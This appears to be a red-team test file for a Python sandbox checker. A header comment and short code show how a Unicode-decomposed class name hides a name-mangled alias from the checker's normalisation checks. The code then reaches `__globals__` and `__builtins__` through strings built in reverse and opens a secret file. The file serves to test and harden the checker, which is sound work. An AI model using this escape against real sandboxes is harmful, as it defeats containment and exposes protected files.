# family: red team, round 19 (source layer, normalised names, allow-list guards)
# rt_002: inside the class below, `__k` is mangled to underscore+classname+`__k`; writing that alias with a
# decomposed e + U+0301 gives the same identifier after the parser's NFKC, but source._mangled_names searches
# the raw text for the composed prefix and _nfkc_identifiers only flags names that normalise to ASCII. So the
# checker judges getattr(fn, __k) as fn.name while Python reads fn.__globals__ (round-15 chain, alias hidden).
def helper():
    return 1


class Bé:
    def grab(self, fn):
        for __k in ("name",):
            _Bé__k = "".join(reversed("__slabolg__"))
            return getattr(fn, __k)


g = Bé().grab(helper)
print(sorted(g.keys())[:6])
b = g["".join(reversed("__snitliub__"))]
print(getattr(b, "open")("/tmp/r19/work/secret.txt").read())
